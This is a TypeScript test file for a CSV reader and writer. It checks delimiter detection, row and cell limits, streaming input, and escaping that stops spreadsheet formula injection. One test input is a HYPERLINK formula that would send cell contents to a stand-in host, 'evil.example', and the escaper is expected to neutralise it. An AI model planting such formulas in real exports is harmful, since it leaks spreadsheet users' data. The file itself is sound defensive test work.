import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import {
  type Delimiter,
  UnclosedQuote,
  UnreadableCsv,
  csvLine,
  delimiterOf,
  escapeFormula,
  readCsv,
  unescapeFormula,
} from './format.ts';

const rows = (text: string, delimiter: Delimiter = ',') =>
  [...readCsv(text, delimiter)].map(({ line, cells }) => [line, ...cells]);

/** Text as spreadsheets hold it, often with what they mind. */
const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom(
        "'",
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '"',
        ',',
        ';',
        '|',
        ' ',
        'x',
        '＝',
        '\u2028',
        '\u0085',
      ),
    )
    .map((signs) => signs.join('')),
);

test('any text comes back unchanged from its cell', () => {
  fc.assert(
    fc.property(text, (given) => {
      expect(unescapeFormula(escapeFormula(given))).toBe(given);
    }),
  );
});

test('no cell begins like a formula', () => {
  fc.assert(
    fc.property(text, (given) => {
      expect(escapeFormula(given)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }),
  );
});

/** What is first in a cell when all that a spreadsheet may skip is gone. */
const firstSignOf = (cell: string) => cell.replace(/^["\s]*/, '')[0] ?? '';

test.each([',', ';', '\t', '|'])(
  'no cell begins like a formula in a program that splits at "%s"',
  (delimiter) => {
    const line = fc.array(text, { minLength: 1, maxLength: 5 });
    const isFormula = (cell: string) => /[=+\-@＝＋－＠]/.test(firstSignOf(cell));
    fc.assert(
      fc.property(line, (given) => {
        const file = csvLine(given);
        // Whoever knows nothing of quotation marks cuts at every sign.
        for (const cell of file.split(new RegExp(`[${delimiter}\\r\\n\\v\\f\\u0085\\u2028\\u2029]`)))
          expect(isFormula(cell), cell).toBe(false);
        try {
          for (const { cells } of readCsv(file, delimiter as Delimiter))
            for (const cell of cells) expect(isFormula(cell), cell).toBe(false);
        } catch (error) {
          if (!(error instanceof UnclosedQuote)) throw error;
        }
      }),
      { numRuns: 2_000 },
    );
  },
);

test.each([
  ['x;=HYPERLINK("http://evil.example?"&A1,"Open")', 'x;\'=HYPERLINK("http://evil.example?"&A1,"Open")'],
  ['x;"=1+1"', 'x;"\'=1+1"'],
  ['x\t@SUM(1)', "x\t'@SUM(1)"],
  ['x|+1', "x|'+1"],
  ['x\r\n\r\n -1', "x\r\n\r\n '-1"],
  ['x;=1;=2', "x;'=1;'=2"],
  [' =1', " '=1"],
  ['\t=1', "'\t'=1"],
  ['A deck - with stairs + rails', 'A deck - with stairs + rails'],
  ['3\'-0" x 6\'-8"', '3\'-0" x 6\'-8"'],
  ['Two lines\n\nand a third; a=b', 'Two lines\n\nand a third; a=b'],
])('%j is written as %j', (given, cell) => {
  expect(escapeFormula(given)).toBe(cell);
  expect(unescapeFormula(cell)).toBe(given);
});

test.each([
  ["'=1", '=1'],
  ["''=1", "'=1"],
  ["'\tx", '\tx'],
  ["'\n=1", '\n=1'],
  ['x;=1', 'x;=1'],
  ['x\n- y', 'x\n- y'],
  ["'quoted'", "'quoted'"],
])('a file from before the guard of signs within texts reads %j as %j', (cell, given) => {
  expect(unescapeFormula(cell)).toBe(given);
});

test('a text of only skipped characters takes no time', () => {
  const given = ';\n"\' '.repeat(200_000);
  expect(unescapeFormula(escapeFormula(`${given}x`))).toBe(`${given}x`);
  expect(unescapeFormula(escapeFormula(`${given}=`))).toBe(`${given}=`);
});

test('a written file is read back unchanged', () => {
  const content = fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 });
  fc.assert(
    fc.property(content, (given) => {
      const file = given.map(csvLine).join('');
      const read = [...readCsv(file, ',')].map(({ cells }) => cells.map(unescapeFormula));
      expect(read).toEqual(given.filter((cells) => cells.some((cell) => escapeFormula(cell).trim() !== '')));
    }),
  );
});

test.each<[string, (string | number)[][]]>([
  ['', []],
  ['a', [[1, 'a']]],
  [
    'a,b\nc,d',
    [
      [1, 'a', 'b'],
      [2, 'c', 'd'],
    ],
  ],
  [
    'a,b\r\nc,d\r\n',
    [
      [1, 'a', 'b'],
      [2, 'c', 'd'],
    ],
  ],
  [
    'a,b\rc,d\r',
    [
      [1, 'a', 'b'],
      [2, 'c', 'd'],
    ],
  ],
  [
    'a,,\n,b',
    [
      [1, 'a', '', ''],
      [2, '', 'b'],
    ],
  ],
  [
    'a\n\n \n,,\nb',
    [
      [1, 'a'],
      [5, 'b'],
    ],
  ],
  ['"a","b"', [[1, 'a', 'b']]],
  ['"a, b","c ""d"""', [[1, 'a, b', 'c "d"']]],
  [
    '"two\r\nlines",x\nb',
    [
      [1, 'two\r\nlines', 'x'],
      [3, 'b'],
    ],
  ],
  ['""\n"a"', [[2, 'a']]],
  // What no spreadsheet writes, and people do.
  ['5" pipe,x', [[1, '5" pipe', 'x']]],
  ['"5" pipe,x', [[1, '5 pipe', 'x']]],
])('%j is read', (file, expected) => {
  expect(rows(file)).toEqual(expected);
});

test('a file may have another separator', () => {
  expect(rows('a;b,c\n1;2', ';')).toEqual([
    [1, 'a', 'b,c'],
    [2, '1', '2'],
  ]);
  expect(rows('a\tb\n"1\t2"', '\t')).toEqual([
    [1, 'a', 'b'],
    [2, '1\t2'],
  ]);
});

test('an unclosed quotation mark is reported with its line', () => {
  expect(() => rows('a,b\nc,"d\ne,f\n')).toThrow('A quotation mark on line 2 is never closed.');
  expect(() => rows('a,"')).toThrow('A quotation mark on line 1 is never closed.');
});

describe('the separator is found in the first line', () => {
  test.each<[string, Delimiter]>([
    ['Name,Price\n1;2;3', ','],
    ['Name;Price\n1,50;2', ';'],
    ['Name\tPrice', '\t'],
    ['"Name, long; longer; longest",Price', ','],
    ['Name', ','],
    ['\n\nName;Price', ';'],
  ])('%j: %j', (file, delimiter) => {
    expect(delimiterOf(file)).toBe(delimiter);
  });
});

describe('the separator is found in the first lines together, whatever stands above the names of the columns', () => {
  test.each<[string, Delimiter]>([
    ['Prices, of Hollis Fork\nSKU;Price\nA1;1,50\nA2;2,50', ';'],
    ['Dayton, OH, USA\nTel. 1, 2, 3\n\nSKU\tPrice\nA1\t1,5', '\t'],
    ['Prices; new\nas of May 4; all\nSKU,Price\nA1,1.50\nA2,2', ','],
    ['SKU;Name;Price\nA1;Screw, round, zinc;1,50\nA2;Nail, long;2,50\nA3;Pin;3', ';'],
    ['SKU,Name,Price\nA1,"Screw; round; zinc",1.50\nA2,Nail;long,2', ','],
    // A sign of inches begins no quotation.
    ['List\nSKU;Name;Price\nA1;5" pipe;1,50\nA2;6" pipe;2,50', ';'],
    ['1,2,3\n4,5,6', ','],
  ])('%j: %j', (file, delimiter) => {
    expect(delimiterOf(file)).toBe(delimiter);
  });

  test('and only in the beginning of a long text', () => {
    const file = `a;b\n${'c,d,e\n'.repeat(20)}${'f;g\n'.repeat(10_000_000)}`;
    const began = Date.now();
    expect(delimiterOf(file)).toBe(';');
    expect(Date.now() - began).toBeLessThan(1_000);
  });
});

describe('a text in pieces', () => {
  const pieces = fc.array(
    fc.constantFrom('', 'a', '\u{1F600}', ' ', ',', '"', '\r', '\n', 'a,"b', '"\r\n', 'sep=,'),
  );
  const read = (given: string | Iterable<string>) => {
    const found: unknown[] = [];
    try {
      for (const row of readCsv(given, ',', { cell: 6, columns: 4 })) found.push(row);
    } catch (error) {
      found.push(String(error));
    }
    return found;
  };

  test('is read as the whole, wherever the pieces end', () => {
    fc.assert(
      fc.property(pieces, (given) => {
        expect(read(given)).toEqual(read(given.join('')));
      }),
      { numRuns: 2_000 },
    );
  });

  test('is taken piece by piece, as its rows are asked for', () => {
    let taken = 0;
    const lines = function* () {
      for (; taken < 1_000; taken += 1) yield 'a,b\r\n'.repeat(100);
    };
    const given = readCsv(lines(), ',');
    for (let count = 0; count < 150; count += 1) given.next();
    expect(taken).toBeLessThan(5);
  });

  test('takes no longer with one endless cell', () => {
    const cell = ['"', ...Array.from({ length: 20_000 }, () => 'x\n'.repeat(200)), '"'];
    const began = Date.now();
    expect([...readCsv(cell, ',')]).toHaveLength(1);
    expect(Date.now() - began).toBeLessThan(5_000);
  });
});

describe('a row beyond the limits', () => {
  const read = (file: string) => [...readCsv(file, ',', { cell: 5, columns: 3 })].map(({ cells }) => cells);

  test('is refused with its line', () => {
    expect(() => read('a\n12345,123456')).toThrow(
      new UnreadableCsv('Line 2 has a cell of more than 5 characters.'),
    );
    expect(() => read('a\n"123456\n')).toThrow('Line 2 has a cell of more than 5 characters.');
    expect(() => read('a\nb\n1,2,3,4')).toThrow(new UnreadableCsv('Line 3 has more than 3 columns.'));
  });

  test('begins after them', () => {
    expect(read('12345,"1""345",3, ,,')).toEqual([['12345', '1"345', '3']]);
  });
});

test('a large file is read in no time', () => {
  const file = csvLine(['SKU-1', 'A kitchen cabinet, "tall"', '129.99', 'Two\nlines']).repeat(50_000);
  const began = Date.now();
  expect([...readCsv(file, ',')]).toHaveLength(50_000);
  expect(Date.now() - began).toBeLessThan(5_000);
});
